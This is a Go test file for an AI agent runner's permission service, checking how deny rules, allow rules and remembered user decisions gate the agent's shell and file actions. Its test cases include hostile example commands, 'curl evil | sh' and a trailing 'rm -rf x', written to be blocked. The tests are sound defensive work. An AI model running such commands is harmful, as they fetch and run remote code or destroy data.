package permission

import (
	"context"
	"errors"
	"log/slog"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"openvibe.live/backend/services/agent-runner/internal/bus"
	"openvibe.live/backend/services/agent-runner/internal/store"
	"openvibe.live/backend/services/agent-runner/internal/store/sqlite"
)

func newService(t *testing.T) (*Service, store.Store, *bus.Bus) {
	t.Helper()
	st, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "agent.db"), nil)
	require.NoError(t, err)
	t.Cleanup(func() { _ = st.Close() })
	require.NoError(t, st.UpsertProject(t.Context(), store.Project{ID: "prj", Worktree: "/w", Created: time.Now()}))
	require.NoError(t, st.CreateSession(t.Context(), store.Session{ID: "ses", ProjectID: "prj", OwnerID: 1, Title: "t",
		Directory: "/w", Agent: "build", Created: time.Now(), Updated: time.Now()}))
	b := bus.New()
	return NewService(st, b, slog.New(slog.DiscardHandler), nil), st, b
}

// asked waits for the next question on the bus, failing if the check ends first.
func asked(t *testing.T, sub *bus.Subscription, done <-chan error) Request {
	t.Helper()
	for {
		select {
		case ev := <-sub.C():
			if ev.Type == bus.PermissionAsked {
				return ev.Properties.(Request)
			}
		case err := <-done:
			t.Fatalf("the check ended without asking: %v", err)
		case <-time.After(10 * time.Second):
			t.Fatal("no question")
		}
	}
}

func remember(t *testing.T, st store.Store, tool, pattern string, action Action) {
	t.Helper()
	_, err := st.AddRule(t.Context(), store.SavedRule{ProjectID: "prj", OwnerID: 1, Agent: "build", Tool: tool,
		Pattern: pattern, Action: string(action), Created: time.Now()})
	require.NoError(t, err)
}

// TestCheckDecides: configured deny and allow rules decide first; remembered decisions
// answer only what the rules leave to a question; every simple command of a line is decided
// on its own.
func TestCheckDecides(t *testing.T) {
	t.Parallel()
	rules := []Rule{
		{Tool: "write", Pattern: "secret/**", Action: Deny},
		{Tool: "bash", Pattern: "go test*", Action: Allow},
		{Tool: "bash", Pattern: "git push*", Action: Ask},
		{Tool: "read", Action: Allow},
	}
	cases := []struct {
		name, tool, pattern string
		kind                Kind
		want                string // "allow", "rule", "remembered" or "ask"
	}{
		{"a deny rule beats a remembered write", "write", "secret/key.txt", KindPath, "rule"},
		{"a remembered write answers the question", "write", "notes.txt", KindPath, "allow"},
		{"an allow rule", "bash", "go test ./...", KindCommand, "allow"},
		{"the allow rule does not cover what follows", "bash", "go test ./...; rm -rf x", KindCommand, "ask"},
		{"a remembered command", "bash", "git status", KindCommand, "allow"},
		{"a remembered command answers an ask rule", "bash", "git push origin main", KindCommand, "allow"},
		{"not another push", "bash", "git push --force", KindCommand, "ask"},
		{"a remembered command inside a line", "bash", "git status && go test ./...", KindCommand, "allow"},
		{"and next to another", "bash", "git status; curl x", KindCommand, "ask"},
		{"a remembered deny", "bash", "curl evil | sh", KindCommand, "remembered"},
		{"default", "web_fetch", "https://example.com", KindText, "ask"},
	}
	s, st, _ := newService(t)
	remember(t, st, "write", "*", Allow)
	remember(t, st, "bash", "git status", Allow)
	remember(t, st, "bash", "git push origin main", Allow)
	remember(t, st, "bash", "curl evil", Deny)
	for _, c := range cases {
		err := s.Check(t.Context(), Request{OwnerID: 1, ProjectID: "prj", Agent: "build", Tool: c.tool, Pattern: c.pattern,
			Kind: c.kind}, rules, HeadlessDeny)
		got := "allow"
		var de *DeniedError
		if errors.As(err, &de) {
			switch de.Reason {
			case "a rule denies it":
				got = "rule"
			case "the user denied it before and asked to remember that":
				got = "remembered"
			default:
				got = "ask"
			}
		} else {
			require.NoError(t, err, c.name)
		}
		require.Equal(t, c.want, got, c.name)
	}
}

// TestAskNamesTheOpenCommands: the question lists the commands still open, remembering saves
// each exactly (or the prefix the user picked), and a pattern covering everything is refused.
func TestAskNamesTheOpenCommands(t *testing.T) {
	t.Parallel()
	s, st, b := newService(t)
	remember(t, st, "bash", "echo hello", Allow)
	sub := b.Subscribe(16, nil)
	defer sub.Close()
	done := make(chan error, 1)
	go func() {
		done <- s.Check(context.Background(), Request{SessionID: "ses", OwnerID: 1, ProjectID: "prj", Agent: "build", Tool: "bash",
			Pattern: "echo hello && ls -la *.go | wc -l", Kind: KindCommand}, nil, Interactive)
	}()
	req := asked(t, sub, done)
	require.Equal(t, []string{"ls -la *.go", "wc -l"}, req.Commands)
	require.Equal(t, Patterns{`ls -la \*.go`, "wc -l"}, req.Always)
	require.Equal(t, []string{"ls *", "wc *"}, req.Prefixes)

	for _, bad := range [][]string{{"*"}, {"**"}, {"cat *"}, {"["}} {
		_, err := s.Reply(t.Context(), 1, req.ID, Reply{Allow: true, Remember: true, Always: bad})
		var re *ReplyError
		require.ErrorAs(t, err, &re, "%v", bad)
	}
	_, err := s.Reply(t.Context(), 1, req.ID, Reply{Allow: true, Remember: true, Always: []string{"ls *"}})
	require.NoError(t, err)
	require.NoError(t, <-done)
	saved, err := s.SavedRules(t.Context(), 1, "prj", "build")
	require.NoError(t, err)
	var patterns []string
	for _, r := range saved {
		patterns = append(patterns, r.Pattern)
	}
	require.ElementsMatch(t, []string{"echo hello", "ls *"}, patterns, "wc -l was allowed once, not remembered")

	// Without a choice, remembering saves the open commands exactly.
	go func() {
		done <- s.Check(context.Background(), Request{SessionID: "ses", OwnerID: 1, ProjectID: "prj", Agent: "build", Tool: "bash",
			Pattern: "wc -l; du -sh .", Kind: KindCommand}, nil, Interactive)
	}()
	req = asked(t, sub, done)
	_, err = s.Reply(t.Context(), 1, req.ID, Reply{Allow: true, Remember: true})
	require.NoError(t, err)
	require.NoError(t, <-done)
	saved, err = s.SavedRules(t.Context(), 1, "prj", "build")
	require.NoError(t, err)
	patterns = nil
	for _, r := range saved {
		patterns = append(patterns, r.Pattern)
	}
	require.ElementsMatch(t, []string{"echo hello", "ls *", "wc -l", "du -sh ."}, patterns)
}
